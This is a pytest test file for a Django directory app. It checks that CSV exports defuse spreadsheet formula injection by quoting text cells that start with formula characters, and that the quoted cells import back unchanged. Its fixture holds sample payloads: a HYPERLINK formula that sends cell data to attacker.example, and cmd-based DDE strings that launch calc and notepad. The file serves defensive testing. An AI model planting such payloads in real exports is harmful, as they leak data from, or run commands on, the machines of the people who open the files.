"""Exports a spreadsheet opens without running anything: a text cell that starts with
= + - @, a tab or a carriage return gets a leading single quote (OWASP's advice against CSV
injection); numbers, coordinates and phone numbers are written as they are, and an import
reads the quoted cells back unchanged."""

import csv
import io

import pytest
from django.core.management import call_command

from providers.importers.csv_flat import import_csv
from providers.importers.export import export_hsds
from providers.importers.export_flat import export_csv
from providers.importers.hsds import import_hsds
from providers.importers.safe_csv import SafeDictWriter, safe_cell
from providers.models import Organization, Service

pytestmark = pytest.mark.django_db

ATTACKS = {
    "name": '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "service": "+cmd|' /C notepad'!A1",
    "eligibility": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(make_provider):
    sal = make_provider(
        name=ATTACKS["name"],
        service_name=ATTACKS["service"],
        eligibility=ATTACKS["eligibility"],
        lat=40.7484,
        lng=-73.9967,
        phone="+12125550100",
    )
    Organization.objects.filter(pk=sal.service.organization_id).update(
        description=ATTACKS["description"]
    )
    return sal


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|x", "'-2+3+cmd|x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- first item", "'- first item"),
        ("Harbor House", "Harbor House"),
        ("a=1", "a=1"),
        ("-73.9967", "-73.9967"),  # a number
        ("+1 (212) 555-0100", "+1 (212) 555-0100"),  # a phone number calls nothing
        ("", ""),
        (-73.9967, -73.9967),
        (12, 12),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_the_writer_leaves_numeric_columns_alone():
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["name", "lng"], numeric=["lng"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"name": "=1+1", "lng": "-1-1"})
    writer.writerows([{"name": "@x", "lng": "=2"}])
    assert out.getvalue() == "name,lng\n'=1+1,-1-1\n'@x,=2\n"


def test_the_hsds_export_neutralises_text_cells_only(hostile, tmp_path):
    export_hsds(tmp_path / "p")

    organization = read_csv((tmp_path / "p" / "organizations.csv").read_text())[0]
    assert organization["name"] == "'" + ATTACKS["name"]
    assert organization["description"] == "'" + ATTACKS["description"]
    service = read_csv((tmp_path / "p" / "services.csv").read_text())[0]
    assert service["name"] == "'" + ATTACKS["service"]
    assert service["eligibility_description"] == "'" + ATTACKS["eligibility"]
    location = read_csv((tmp_path / "p" / "locations.csv").read_text())[0]
    assert location["longitude"] == "-73.9967"
    phone = read_csv((tmp_path / "p" / "phones.csv").read_text())[0]
    assert phone["number"] == "+12125550100"
    for path in (tmp_path / "p").glob("*.csv"):
        for row in read_csv(path.read_text()):
            for column, value in row.items():
                formula = value[:1] in ("=", "@") or value.startswith(("+cmd", "-2+3"))
                assert not formula, (path.name, column, value)


def test_the_spreadsheet_export_neutralises_text_cells_only(hostile):
    out = io.StringIO()
    export_csv(out)

    row = read_csv(out.getvalue())[0]
    assert row["organization_name"] == "'" + ATTACKS["name"]
    assert row["organization_description"] == "'" + ATTACKS["description"]
    assert row["service_name"] == "'" + ATTACKS["service"]
    assert row["eligibility"] == "'" + ATTACKS["eligibility"]
    assert row["longitude"] == "-73.9967" and row["latitude"] == "40.7484"
    assert row["phone"] == "+12125550100"


def test_exports_import_back_unchanged(hostile, tmp_path):
    export_hsds(tmp_path / "p")
    flat = tmp_path / "directory.csv"
    call_command("export_csv", str(flat), stdout=io.StringIO())

    for load in (lambda: import_hsds(tmp_path / "p"), lambda: import_csv(flat)):
        Organization.objects.all().delete()
        report = load()
        assert report.ok, report.as_text()
        organization = Organization.objects.get()
        assert organization.name == ATTACKS["name"]
        assert organization.description == ATTACKS["description"]
        service = Service.objects.get()
        assert service.name == ATTACKS["service"]
        assert service.eligibility == ATTACKS["eligibility"]


def test_the_stale_listings_csv_is_neutralised(hostile):
    out = io.StringIO()
    call_command("stale_listings", "--format", "csv", stdout=out)
    assert read_csv(out.getvalue())[0]["name"] == "'" + ATTACKS["name"]


def test_the_referral_counts_csv_uses_the_safe_writer(monkeypatch):
    from referrals import reports

    monkeypatch.setattr(
        reports,
        "export_counts",
        lambda referrals: [
            {"month": "2026-01", "status": "sent", "service_type": "=1+1", "referrals": 3}
        ],
    )
    assert reports.export_csv(None).splitlines()[1] == "2026-01,sent,'=1+1,3"
